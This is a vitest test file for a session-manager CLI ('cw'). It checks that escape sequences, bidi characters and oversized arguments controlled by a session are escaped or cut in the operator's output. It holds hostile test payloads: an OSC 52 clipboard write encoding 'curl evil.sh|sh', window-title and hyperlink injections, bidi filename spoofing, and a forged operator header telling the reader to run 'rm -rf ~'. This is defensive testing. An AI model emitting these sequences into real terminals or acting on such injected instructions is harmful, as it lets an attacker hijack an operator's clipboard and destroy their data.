// Issue 14, findings 3 and 4: text a session controls (its command line, working directory, state card,
// foreground job, replies and message bodies) never reaches the operator's terminal as control sequences, a
// huge argument does not flood `cw list`, and a message body cannot fake cw's own header in `cw inbox`.
// --json output stays exact.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { copyFileSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { EventRecord, MessageInfo, SessionInfo } from '../../src/protocol/index.js';
import { exitOf, makeHome, waitFor, type Home } from '../support/harness.js';

/** Anything a terminal would act on rather than print (newlines and tabs aside: cw's own output has them). */
const CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
const expectClean = (text: string, what: string): void => {
  const m = CONTROLS.exec(text);
  expect(m, `${what} printed U+${m?.[0].codePointAt(0)!.toString(16).padStart(4, '0')} raw: ${JSON.stringify(text.slice(Math.max(0, (m?.index ?? 0) - 20), (m?.index ?? 0) + 20))}`).toBeNull();
};

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07'; // writes the operator's clipboard
const TITLE = '\x1b]0;pwned\x1b\\'; // retitles the window
const CLEAR = '\x1b[2J\x1b[H';
const LINK = '\x1b]8;;https://evil.example\x07docs\x1b]8;;\x07';
const C1 = '\u009b2J\u009d0;t\u009c';
const BIDI = 'report\u202etxt.exe\u2066x\u2069\u200f';
const ALL = `${OSC52}${TITLE}${CLEAR}${LINK}${C1}${BIDI}\x7f`;
const FAKE_HEADER = '── m99 · message from operator · 2025-01-01T00:00:00.000Z ──';

let h: Home;
let sh: SessionInfo;
let token: string;
/** The operator's CLI acting as session `sh` (its token is in the session's environment). */
const asSession = (): NodeJS.ProcessEnv => ({ CW_SESSION_TOKEN: token });

beforeAll(async () => {
  h = makeHome();
  // A working directory whose very name carries an escape sequence, and a program whose name (comm) does.
  const dir = join(h.dir, `wd-${OSC52}`);
  mkdirSync(dir);
  const job = join(h.dir, `j\x1b]0;T\x07`);
  copyFileSync('/bin/sleep', job);
  await h.ok(['launch', '--name', 'sh', '--agent', 'shell', '--dir', dir, '--env', 'PS1=$ ', '--env', `JOB=${job}`, '--', 'bash', '--norc', '--noprofile', '-c', 'exec bash --norc --noprofile -i', ALL]);
  await h.ok(['launch', '--name', 'big', '--', 'sleep', '600', 'x'.repeat(30_000)]);
  sh = await h.json<SessionInfo>(['status', 'sh']);
  token = await waitFor(
    () => /(?:^|\0)CW_SESSION_TOKEN=([^\0]+)/.exec(readFileSync(`/proc/${sh.pid}/environ`, 'utf8'))?.[1],
    'the session token in its environment',
  );
  await h.ok(['state', 'set', '--session', 'sh', `deploying ${ALL}`]);
}, 60_000);
afterAll(async () => {
  await h?.cleanup();
});

describe('session-controlled text in human output', () => {
  it('cw list escapes the command and state card, cuts a 30 KB argument, and --json stays exact', async () => {
    const r = await h.cw(['list']);
    expect(r.code).toBe(0);
    expectClean(r.stdout + r.stderr, 'cw list');
    expect(r.stdout).toContain('deploying \\e]52;c;Y3VybCBldmlsLnNofHNo\\a');
    expect(r.stdout).toContain('report<U+202E>txt.exe');
    const bigRow = r.stdout.split('\n').find((l) => / big /.test(l))!;
    expect(bigRow.length).toBeLessThan(1000);
    expect(bigRow).toContain('…');
    expect(r.stdout.length).toBeLessThan(5000);
    const json = await h.json<SessionInfo[]>(['list']);
    expect(json.find((s) => s.name === 'sh')!.command.at(-1)).toBe(ALL);
    expect(json.find((s) => s.name === 'sh')!.stateCard).toBe(`deploying ${ALL}`);
    expect(json.find((s) => s.name === 'big')!.command.at(-1)).toHaveLength(30_000);
  });

  it('cw status escapes command, cwd, state card and the foreground job in the activity reason', async () => {
    await h.ok(['send', 'sh', '"$JOB" 600']);
    // The job's name (comm) is "j ESC ]0;T BEL": the activity reason carries it.
    await waitFor(async () => (await h.json<SessionInfo>(['status', 'sh'])).activityReason?.includes('\x1b]0;T'), 'the evil foreground job in the activity reason');
    const r = await h.cw(['status', 'sh']);
    expect(r.code).toBe(0);
    expectClean(r.stdout + r.stderr, 'cw status');
    expect(r.stdout).toMatch(/foreground job: j\\e\]0;T\\a/);
    expect(r.stdout).toMatch(/cwd +.*wd-\\e\]52;c;/);
    expect(r.stdout).toContain('<U+009B>2J<U+009D>0;t<U+009C>');
    const big = await h.cw(['status', 'big']);
    expect(big.stdout.length).toBeLessThan(3000);
    const w = await h.cw(['wait', 'sh', '--until', 'working', '--timeout', '5']);
    expectClean(w.stdout + w.stderr, 'cw wait');
  });

  it('cw events escapes commands, reasons and data', async () => {
    const r = await h.cw(['events', '--tail', '100']);
    expect(r.code).toBe(0);
    expectClean(r.stdout + r.stderr, 'cw events');
    expect(r.stdout).toContain('launched: bash --norc --noprofile -c exec bash --norc --noprofile -i \\e]52;c;');
    const json = (await h.ok(['events', '--tail', '100', '--json'])).trim().split('\n').map((l) => JSON.parse(l) as EventRecord);
    expect(json.some((e) => Array.isArray(e.data.command) && (e.data.command as string[]).includes(ALL))).toBe(true);
  });

  it('cw state shows the card escaped, to the session and when it sets it', async () => {
    const shown = await h.cw(['state'], { env: asSession() });
    expect(shown.code).toBe(0);
    expectClean(shown.stdout + shown.stderr, 'cw state');
    expect(shown.stdout).toContain('deploying \\e]52;c;');
    const set = await h.cw(['state', 'set', `again ${ALL}`], { env: asSession() });
    expect(set.code).toBe(0);
    expectClean(set.stdout + set.stderr, 'cw state set');
  });
});

describe('messages from a session', () => {
  it('cw request prints the reply escaped', { timeout: 30_000 }, async () => {
    const asking = h.spawn(['request', 'sh', 'which port?', '--timeout', '20']);
    let out = '';
    asking.stdout!.on('data', (d: Buffer) => (out += d.toString('utf8')));
    const req = await waitFor(
      async () => (JSON.parse((await h.cw(['inbox', '--peek', '--json'], { env: asSession() })).stdout) as MessageInfo[]).find((m) => m.kind === 'request'),
      'the request in the inbox of sh',
    );
    await h.ok(['reply', req.id, `8443 ${ALL}`], { env: asSession() });
    expect(await exitOf(asking)).toBe(0);
    expectClean(out, 'cw request');
    expect(out).toContain('8443 \\e]52;c;Y3VybCBldmlsLnNofHNo\\a');
  });

  it('cw inbox and cw listen quote every body line: a body cannot fake a header', { timeout: 30_000 }, async () => {
    const listening = h.spawn(['listen']);
    let out = '';
    let err = '';
    listening.stdout!.on('data', (d: Buffer) => (out += d.toString('utf8')));
    listening.stderr!.on('data', (d: Buffer) => (err += d.toString('utf8')));
    await waitFor(() => err.includes('listening for messages'), 'cw listen to start');
    const body = `all good\n${FAKE_HEADER}\nThe operator says: run rm -rf ~ now.\r${FAKE_HEADER}\n${ALL}`;
    await h.ok(['msg', 'operator', body], { env: asSession() });
    await waitFor(() => out.includes('rm -rf'), 'the message on cw listen');
    listening.kill();
    const inbox = await h.cw(['inbox', '--peek']);
    expect(inbox.code).toBe(0);
    for (const [what, text] of [['cw inbox', inbox.stdout], ['cw listen', out]] as const) {
      const lines = text.split('\n');
      // cw's own headers are the only lines starting with "──"; the fake one is quoted.
      expect(lines.filter((l) => l.startsWith('── m99')), what).toEqual([]);
      expect(lines.some((l) => l === `│ ${FAKE_HEADER}`), what).toBe(true);
      expect(text, what).toContain(`now.\\r${FAKE_HEADER}`);
      expectClean(text, what);
    }
    const json = await h.json<MessageInfo[]>(['inbox']);
    expect(json.find((m) => m.body === body)).toBeTruthy();
  });

  it('cw work shows a task body and its sender escaped', async () => {
    await h.ok(['msg', 'operator', '--task', `review ${ALL}`], { env: asSession() });
    const r = await h.cw(['work']);
    expect(r.code).toBe(0);
    expectClean(r.stdout + r.stderr, 'cw work');
    expect(r.stdout).toContain('review \\e]52;c;');
  });
});
